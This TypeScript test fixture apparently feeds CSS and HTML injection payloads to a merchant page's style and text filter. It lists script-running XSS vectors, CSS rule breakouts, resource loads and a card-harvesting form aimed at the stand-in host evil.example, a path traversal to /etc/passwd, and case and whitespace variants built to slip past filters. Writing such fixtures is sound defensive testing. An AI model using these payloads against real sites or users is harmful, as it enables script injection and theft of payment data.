/**
 * CSS and text injection payloads: every trick a merchant page (or a script on it) could put
 * into a style value, a theme variable, a font URL, a label or an error message to load a
 * resource, run script, break out of a declaration or a rule, or make markup. Each base payload
 * also comes in variants (case, whitespace, a benign prefix) so filters keyed on exact spellings
 * fail here.
 */
const EVIL = 'https://evil.example';

const BASE: string[] = [
  // Resources from CSS.
  `url(${EVIL}/x.png)`,
  `url('${EVIL}/x.png')`,
  `url("${EVIL}/x.png")`,
  'url(//evil.example/x)',
  'url(data:image/svg+xml,%3Csvg%20onload%3Dalert(1)%3E)',
  'url(javascript:alert(1))',
  `u\\rl(${EVIL}/e)`,
  `\\75 rl(${EVIL}/e)`,
  `\\000075rl(${EVIL}/e)`,
  `ur/**/l(${EVIL}/c)`,
  `URL (${EVIL}/s)`,
  `url\t(${EVIL}/t)`,
  `image-set("${EVIL}/i.png" 1x)`,
  `-webkit-image-set(url(${EVIL}/w.png) 1x)`,
  `image-set('${EVIL}/q.png' type('image/png'))`,
  `cross-fade(url(${EVIL}/a) 50%, red)`,
  `src("${EVIL}/src")`,
  `image(${EVIL}/img)`,
  `element(#card-number)`,
  `linear-gradient(red, blue), url(${EVIL}/g)`,
  `@import url(${EVIL}/i.css)`,
  `@import '${EVIL}/i.css'`,
  `@font-face{font-family:x;src:url(${EVIL}/f.woff)}`,
  `@namespace url(${EVIL})`,
  // Script.
  'expression(alert(1))',
  'expression (alert(1))',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\\script:alert(1)',
  '-moz-binding: url(x.xml#xss)',
  'behavior: url(x.htc)',
  'behavior:url(#default#time2)',
  // Breaking out of the declaration, the rule, the sheet.
  'red; background: url(https://evil.example/b)',
  'red;}body{background:url(https://evil.example/r)}',
  'red}* {display:none}',
  'red}:root{--moment-color-text:red',
  '{}',
  'red !important; position: fixed',
  'red\\;position:fixed',
  '\\7d body{display:none}',
  '"; } body { display: none } "',
  "'; } body { display: none } '",
  '*/ body{display:none} /*',
  '/* comment */ red',
  'red /* open comment',
  'red </style><script>alert(1)</script>',
  '</style><img src=x onerror=alert(1)>',
  '<style>@import "https://evil.example/s.css"</style>',
  // Markup in text.
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/p.png">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="https://evil.example/f"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">click</a>',
  '<form action="https://evil.example/steal"><input name=cc></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<object data="https://evil.example/o"></object>',
  '<embed src="https://evil.example/e">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/l.css">',
  '<link rel=prefetch href="https://evil.example/prefetch">',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<%= 7*7 %>',
  // Unicode and escapes.
  '\\3c script\\3e alert(1)\\3c /script\\3e',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '\u003cimg src=x onerror=alert(1)\u003e',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  'ｕｒｌ(https://evil.example/fullwidth)',
  'red\u0000; background:url(https://evil.example/nul)',
  '\u202eredro\u202c',
  'red\u2028}body{display:none}',
  '\r\n}body{display:none}',
  '\udc00 lone surrogate',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  // var() and custom-property tricks.
  'var(--x, url(https://evil.example/v))',
  'var(--moment-color-text)',
  'var(--evil)',
  'var(--x,)',
  'env(safe-area-inset-top, url(https://evil.example/env))',
  'attr(data-x url)',
  'calc(1px + url(https://evil.example/calc))',
  'paint(evil)',
  '--x: url(https://evil.example/c)',
  'inherit',
  'unset',
  // Fonts: URLs for fontCss and src-like values.
  `${EVIL}/font.css`,
  'http://fonts.googleapis.com/css?family=X',
  'https://fonts.googleapis.com@evil.example/x.css',
  'https://fonts.googleapis.com.evil.example/x.css',
  'https://user:pass@fonts.googleapis.com/css',
  '//evil.example/font.css',
  'javascript:alert(1)//.css',
  'data:text/css,body{background:url(https://evil.example/d)}',
  'blob:https://evil.example/1234',
  'ftp://evil.example/font.css',
  '/fonts/../../../etc/passwd',
  'local(Arial), url(https://evil.example/f.woff)',
];

/** Variants that defeat filters keyed on exact spelling. */
const VARIANTS: ((p: string) => string)[] = [(p) => p, (p) => p.toUpperCase(), (p) => `  ${p}\n`];

/** Payloads whose length passes the protocol's 500-character limit on one value. */
export const PAYLOADS: string[] = [...new Set(BASE.flatMap((p) => VARIANTS.map((variant) => variant(p))))];

/** Over-long values: refused as a whole or, where they pass the protocol, dropped by the filter. */
export const LONG_PAYLOADS: string[] = [
  'a'.repeat(201),
  'red'.padEnd(499, ' '),
  `url(${EVIL}/${'x'.repeat(480)})`,
  '<img src=x onerror=alert(1)>'.repeat(18),
  'x'.repeat(501),
  `url(${EVIL}/${'y'.repeat(5000)})`,
  '<script>'.repeat(10_000),
  'a'.repeat(100_000),
];

/** Benign values (for a baseline of what a frame normally does). */
export const BENIGN = { color: 'rgb(10, 20, 30)', text: 'Plain label', message: 'Plain message' };
